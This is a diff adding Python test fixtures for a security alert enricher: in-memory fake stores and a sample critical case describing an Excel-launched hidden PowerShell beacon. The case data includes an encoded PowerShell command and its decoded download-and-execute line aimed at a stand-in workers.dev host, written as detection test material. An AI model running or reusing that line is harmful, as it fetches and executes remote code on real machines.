@@ -1,0 +1,465 @@
+"""An inbox, a reader and an operator in memory, and cases to show."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field, replace
+from datetime import UTC, datetime, timedelta
+from typing import Any, TypeVar
+
+import orjson
+
+from enricher.core.document import CaseDocument, Json
+from enricher.errors import PayloadError, StoreUnavailable
+from enricher.ports import (
+    AlertRecord,
+    Backlog,
+    CaseRecord,
+    ClaimedAlert,
+    DeliveryRecord,
+    Page,
+    Receipt,
+    Settlement,
+    SourceRecord,
+    Submission,
+)
+from enricher.web import Services, WebSettings
+
+NOW = datetime(2026, 11, 24, 2, 4, 0, tzinfo=UTC)
+T = TypeVar("T")
+
+
+def submission(body: bytes, source: str) -> Submission | None:
+    """As the core reads a body, in short: JSON objects only; `{"test": true}` is a connection test."""
+    try:
+        document = orjson.loads(body)
+    except orjson.JSONDecodeError as error:
+        raise PayloadError("not_json", str(error)) from error
+    if not isinstance(document, dict):
+        raise PayloadError("not_an_object", "the body is not a JSON object")
+    if document.get("test"):
+        return None
+    return Submission(body=body, source=source, kind="monitor", identity=body.hex(), row_digests=frozenset({b"12345678"}))
+
+
+@dataclass
+class FakeInbox:
+    """Keeps what it accepts; `refuses` makes it a full disk."""
+
+    accepted: list[Submission] = field(default_factory=list)
+    refuses: bool = False
+    records: dict[str, AlertRecord] = field(default_factory=dict)
+    bodies: dict[str, bytes] = field(default_factory=dict)
+
+    def accept(self, submission: Submission) -> Receipt:
+        if self.refuses:
+            raise StoreUnavailable("disk full", retry_after=7)
+        for index, earlier in enumerate(self.accepted):
+            if earlier.identity == submission.identity:
+                return Receipt(alert_id=f"A{index}", duplicate=True)
+        self.accepted.append(submission)
+        return Receipt(alert_id=f"A{len(self.accepted) - 1}", duplicate=False)
+
+    def get(self, alert_id: str) -> AlertRecord | None:
+        return self.records.get(alert_id)
+
+    def body(self, alert_id: str) -> bytes | None:
+        return self.bodies.get(alert_id)
+
+    def claim(self, limit: int) -> list[ClaimedAlert]:
+        raise NotImplementedError
+
+    def settle(self, claim: ClaimedAlert, settlement: Settlement) -> bool:
+        raise NotImplementedError
+
+    def retry(self, claim: ClaimedAlert, reason: str, delay_s: float) -> None:
+        raise NotImplementedError
+
+    def bury(self, claim: ClaimedAlert, reason: str) -> None:
+        raise NotImplementedError
+
+
+@dataclass
+class FakeReader:
+    """Lists what it was given; a page's cursor is the index of the next item."""
+
+    stored: list[CaseRecord] = field(default_factory=list)
+    sent: list[DeliveryRecord] = field(default_factory=list)
+    dead: list[AlertRecord] = field(default_factory=list)
+    heard: list[SourceRecord] = field(default_factory=list)
+    refuses: bool = False
+
+    def case(self, key: str) -> CaseRecord | None:
+        return next((record for record in self.stored if record.key == key), None)
+
+    def cases(
+        self,
+        *,
+        limit: int,
+        after: str | None = None,
+        severity: str | None = None,
+        state: str | None = None,
+        text: str | None = None,
+    ) -> Page[CaseRecord]:
+        return page(
+            [
+                record
+                for record in self.stored
+                if severity in {None, record.document["severity"]}
+                and state in {None, record.state}
+                and (text is None or text in f"{record.document['host']} {record.document['tenant']} {record.key}")
+            ],
+            limit,
+            after,
+        )
+
+    def deliveries(self, *, limit: int, after: str | None = None, state: str | None = None) -> Page[DeliveryRecord]:
+        return page([record for record in self.sent if state in {None, record.state}], limit, after)
+
+    def dead_alerts(self, *, limit: int, after: str | None = None) -> Page[AlertRecord]:
+        return page(self.dead, limit, after)
+
+    def sources(self) -> list[SourceRecord]:
+        return self.heard
+
+    def backlog(self) -> Backlog:
+        return Backlog(
+            alerts_waiting=0,
+            oldest_alert_s=0.0,
+            deliveries_waiting={"jira": 1},
+            dead_alerts=len(self.dead),
+            dead_deliveries=sum(record.state == "dead" for record in self.sent),
+        )
+
+    def ready(self) -> None:
+        if self.refuses:
+            raise StoreUnavailable("database gone")
+
+
+def page(items: Sequence[T], limit: int, after: str | None) -> Page[T]:
+    start = int(after or 0)
+    end = start + limit
+    return Page(items=tuple(items[start:end]), next=str(end) if end < len(items) else None)
+
+
+@dataclass
+class FakeOperator:
+    """Knows some ids, and remembers what it was asked to do."""
+
+    known: frozenset[str] = frozenset()
+    done: list[str] = field(default_factory=list)
+
+    def retry_dead(self, item_id: str) -> bool:
+        return self._do(item_id)
+
+    def discard_dead(self, item_id: str, by: str) -> bool:
+        return self._do(item_id)
+
+    def reopen_case(self, key: str) -> bool:
+        return self._do(key)
+
+    def _do(self, name: str) -> bool:
+        if name in self.known:
+            self.done.append(name)
+        return name in self.known
+
+
+@dataclass
+class World:
+    """All that the application was given, to look at afterwards."""
+
+    inbox: FakeInbox = field(default_factory=FakeInbox)
+    reader: FakeReader = field(default_factory=FakeReader)
+    operator: FakeOperator = field(default_factory=FakeOperator)
+    counted: list[tuple[str, str]] = field(default_factory=list)
+    problems: list[str] = field(default_factory=list)
+    now: float = 0.0
+
+    def services(self, *, submission: Callable[[bytes, str], Submission | None] = submission, **settings: Any) -> Services:
+        return Services(
+            settings=WebSettings(signing_key=b"made up", **settings),
+            inbox=self.inbox,
+            reader=self.reader,
+            operator=self.operator,
+            submission=submission,
+            explain=explain,
+            metrics=lambda: (b"enricher_up 1\n", "text/plain; version=0.0.4; charset=utf-8"),
+            count=lambda event, label: self.counted.append((event, label)),
+            content_problems=lambda: self.problems,
+            monotonic=lambda: self.now,
+        )
+
+
+def explain(body: bytes) -> Json:
+    if submission(body, "explain") is None:
+        raise PayloadError("no_rows", "a connection test explains nothing")
+    return {"input": {"kind": "monitor", "rows": 0}, "cases": [], "dropped": []}
+
+
+# --- cases ----------------------------------------------------------------------------------------------------------
+
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+
+
+def step(rule: str, evidence: str, points: float, start: float, *, taken: bool = True) -> Any:
+    end = start + points if taken else start
+    return {
+        "step": rule.partition(".")[0],
+        "rule": rule,
+        "evidence": evidence,
+        "points": points,
+        "from": start,
+        "to": end,
+        "taken": taken,
+    }
+
+
+def ancestor(name: str, folder: str, command_line: str | None, pid: int | None, source: str = "observed") -> Any:
+    return {
+        "image": f"{folder}\\{name}",
+        "name": name,
+        "command_line": command_line,
+        "guid": f"7C1E2B40-96D1-65F0-{pid or 0:04X}-00000000A100",
+        "pid": pid,
+        "user": r"CORP\m.alvarez",
+        "source": source,
+    }
+
+
+def critical_document() -> CaseDocument:
+    return {
+        "key": "enricher-2412d6c5edbed00f",
+        "title": "powershell.exe under EXCEL.EXE beacons to example-lab[.]workers[.]dev from ws-fin-0142",
+        "summary": "Excel started mshta, mshta started a hidden PowerShell, and that PowerShell has called "
+        "beacon-7f.example-lab.workers.dev, a Cloudflare Workers tenant new in this estate, every 30 seconds.",
+        "detection": "T1583.007",
+        "technique": {
+            "id": "T1583.007",
+            "name": "Acquire Infrastructure: Serverless",
+            "tactic": "Resource Development",
+            "url": "https://attack.mitre.org/techniques/T1583/007/",
+        },
+        "host": "ws-fin-0142.corp.example",
+        "user": r"CORP\m.alvarez",
+        "rows": [0, 1, 2],
+        "severity": "critical",
+        "score": 98,
+        "raw_severity": "critical",
+        "raw_score": 98,
+        "verdict": "malicious",
+        "confidence": 0.9,
+        "disposition": "open",
+        "platform": {
+            "id": "cf-workers",
+            "name": "Cloudflare Workers",
+            "provider": "Cloudflare",
+            "category": "edge-worker",
+            "family": "cloudflare",
+            "seed_pattern": "S1",
+        },
+        "hostname": "beacon-7f.example-lab.workers.dev",
+        "hostname_source": "dns_same_process",
+        "hostname_factor": 1.0,
+        "candidates": ["cdn.example-lab.workers.dev"],
+        "tenant": "example-lab.workers.dev",
+        "destination": {
+            "ip": "104.21.48.117",
+            "port": 443,
+            "ptr": None,
+            "asn": 13335,
+            "holder": "CLOUDFLARENET, US",
+            "prefix": "104.21.48.0/20",
+            "country": "US",
+            "consistent": True,
+        },
+        "process": {
+            "image": POWERSHELL,
+            "name": "powershell.exe",
+            "class": "shell",
+            "guid": "7C1E2B40-96D1-65F0-3B12-00000000A100",
+            "pid": 7316,
+            "command_line": "powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAALgAuAC4AKQA=",
+            "decoded": ["IEX (iwr https://beacon-7f.example-lab.workers.dev/t -UseBasicParsing)"],
+            "original_file_name": "PowerShell.EXE",
+            "company": "Microsoft Corporation",
+            "hashes": {"sha256": "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f"},
+            "identity": ["user_writable"],
+            "is_suspicious": True,
+            "is_browser": False,
+        },
+        "lineage": [
+            ancestor(
+                "mshta.exe", r"C:\Windows\System32", r"mshta.exe C:\Users\m.alvarez\AppData\Local\Temp\inv8841.hta", 6120
+            ),
+            ancestor(
+                "EXCEL.EXE",
+                r"C:\Program Files\Microsoft Office\root\Office16",
+                r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\m.alvarez\Downloads\invoice-8841.xlsm"',
+                5044,
+                "history",
+            ),
+            {
+                "image": None,
+                "name": None,
+                "command_line": None,
+                "guid": None,
+                "pid": None,
+                "user": None,
+                "source": "missing",
+            },
+        ],
+        "enrichments": [
+            enrichment("asn", "104.21.48.117", "ok", {"asns": [13335]}),
+            enrichment("ptr", "104.21.48.117", "negative", reason="no such name"),
+            enrichment("rdap", "104.21.48.117", "timeout", reason="no answer within 5 s"),
+            enrichment("forward", "beacon-7f.example-lab.workers.dev", "stale", age_s=7260),
+        ],
+        "beacon": {"class": "regular", "period_s": 30.1, "score": 0.93, "sightings": 24, "reason": None},
+        "dns_anomalies": ["tenant_rotation: 3 tenants of one family within 10 minutes"],
+        "first_seen_estate": "2026-11-24T01:52:07.412Z",
+        "prevalence": 1,
+        "shared_hosts": [],
+        "ledger": [
+            step("platform.score", "Cloudflare Workers, weight 5 × 6, name from dns_same_process (factor 1.0)", 30, 0),
+            step("process.shell", "powershell.exe, class shell", 15, 30),
+            step("lineage.office_child", "EXCEL.EXE → mshta.exe", 30, 45),
+            step("lineage.lolbin_child", "mshta.exe → powershell.exe; only the largest counts", 25, 75, taken=False),
+            step("command.encoded", "-EncodedCommand", 15, 75),
+            step("command.most", "command line counts at most 20 with this lineage", -10, 90),
+            step("behaviour.periodic", "class regular, 24 sightings, median gap 30.1 s", 10, 80),
+            step("context.new_tenant", "example-lab.workers.dev not seen in the estate in 30 days", 8, 90),
+            step("context.server", "host is a workstation", 8, 98, taken=False),
+            step("context.shared_hosts", "1 host uses the tenant; 3 are needed", 5, 98, taken=False),
+        ],
+        "ledger_digest": "sha256:683517bfce0c4069d610591a2f6d0b4186c585a1b356b1c3277a5ac6a6c16bf9",
+        "exceptions": [
+            {
+                "rule": "TUN-0031",
+                "effect": "cap at medium",
+                "mode": "shadow",
+                "reason": "Finance reporting macros fetch rates.",
+                "owner": "finance-platform",
+                "expires": "2027-02-22",
+            }
+        ],
+        "drift": [{"field": "serverless_platform", "sumo": "Cloudflare Pages", "ours": "Cloudflare Workers"}],
+        "missing": ["what mshta passed to PowerShell on its standard input: no script block event (4104) in the alert"],
+        "next_steps": [
+            "Isolate ws-fin-0142.corp.example and keep its memory.",
+            "Take invoice-8841.xlsm and inv8841.hta; find who else received the mail.",
+            "Look for other hosts that ask for example-lab.workers.dev.",
+            "Block the tenant, not the platform, at the resolver and the proxy.",
+            "Reset the sessions and the password of m.alvarez.",
+        ],
+        "tickets": [],
+        "first_seen": "2026-11-24T01:52:07.412Z",
+        "last_seen": "2026-11-24T02:03:41.090Z",
+        "count": 24,
+        "findings": [{"guid": "7C1E2B40-96D1-65F0-3B12-00000000A100", "pid": 7316, "score": 98, "severity": "critical"}],
+        "links": {"sumo_alert": "https://service.us2.sumologic.com/ui/#/alert/0000000001A2B3C4"},
+        "evidence": [{"event_id": 22, "at": "2026-11-24T01:52:07.412Z", "name": "beacon-7f.example-lab.workers.dev"}],
+    }
+
+
+def enrichment(source: str, about: str, status: str, detail: Json | None = None, **more: Any) -> Any:
+    return {"source": source, "about": about, "status": status, "detail": detail or {}, "age_s": 0, "reason": None, **more}
+
+
+def delivery(destination: str, state: str = "delivered", **more: Any) -> DeliveryRecord:
+    record = DeliveryRecord(
+        delivery_id=f"D-{destination}",
+        case_key="enricher-2412d6c5edbed00f",
+        destination=destination,
+        state=state,
+        external_id="10042",
+        label="SEC-12",
+        url="https://jira.example/browse/SEC-12",
+        attempts=1,
+        due_at=None,
+        reason=None,
+        detail=None,
+        updated_at=NOW + timedelta(seconds=4),
+    )
+    return replace(record, **more)
+
+
+def alert_record(alert_id: str = "A1", **more: Any) -> AlertRecord:
+    record = AlertRecord(
+        alert_id=alert_id,
+        state="done",
+        kind="monitor",
+        source="sumo-prod",
+        received_at=NOW,
+        attempts=1,
+        reason=None,
+        cases=("enricher-2412d6c5edbed00f",),
+        dropped=({"row": 3, "reason": "no_match: not in the catalog"},),
+        size=4120,
+    )
+    return replace(record, **more)
+
+
+def case_record(document: CaseDocument | None = None, **more: Any) -> CaseRecord:
+    document = document or critical_document()
+    record = CaseRecord(
+        key=document["key"],
+        state="open",
+        document=document,
+        news=(
+            {
+                "seq": 1,
+                "kind": "opened",
+                "at": "2026-11-24T02:04:01Z",
+                "text": "Opened, critical 98.",
+                "lines": ["EXCEL.EXE → mshta.exe → powershell.exe"],
+            },
+            {"seq": 2, "kind": "evidence", "at": "2026-11-24T02:09:00Z", "text": "Eight more contacts.", "lines": []},
+        ),
+        alerts=("A1",),
+        deliveries=(
+            delivery("jira"),
+            delivery("servicenow", label="INC0010042", url="https://snow.example/incident/1"),
+            delivery("slack", "unknown", label=None, url=None, reason="timeout"),
+        ),
+        opened_at=NOW,
+        updated_at=NOW,
+    )
+    return replace(record, **more)
+
+
+def bare_document() -> CaseDocument:
+    """The least that a case can be: one event 3 of a process nobody knows."""
+    document: Any = critical_document()
+    for name, value in document.items():
+        document[name] = [] if isinstance(value, list) else None if isinstance(value, str) else value
+    document |= {
+        "key": "enricher-0000000000000000",
+        "host": "",
+        "severity": "informational",
+        "score": 0,
+        "raw_score": 0,
+        "raw_severity": "informational",
+        "verdict": "unknown",
+        "confidence": 0.0,
+        "disposition": "informational",
+        "summary": "",
+        "title": "",
+        "detection": "T1583.007",
+        "beacon": None,
+        "prevalence": None,
+        "hostname_factor": None,
+        "count": 1,
+        "destination": dict.fromkeys(document["destination"]),
+        "platform": dict.fromkeys(document["platform"]),
+        "process": {
+            **dict.fromkeys(document["process"]),
+            "class": "other",
+            "hashes": {},
+            "identity": [],
+            "is_suspicious": False,
+            "is_browser": False,
+        },
+        "links": {},
+        "ledger_digest": "",
+    }
+    return document  # type: ignore[no-any-return]
